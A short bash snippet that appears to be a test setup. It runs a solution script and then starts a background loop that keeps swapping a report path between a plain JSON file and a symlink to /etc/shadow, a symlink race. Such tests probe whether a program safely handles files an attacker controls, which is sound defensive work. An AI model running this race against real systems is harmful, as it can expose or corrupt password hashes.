# Swaps an output between a file and a link all the time.
bash "$SOLVE"
echo '{}' > "$REPORT.file"; ln -sf /etc/shadow "$REPORT.link"
setsid bash -c 'while :; do mv -T "$0.link" "$0"; mv -T "$0" "$0.link"; cp "$0.file" "$0"; done' "$REPORT" > /dev/null 2>&1 &
sleep 0.2
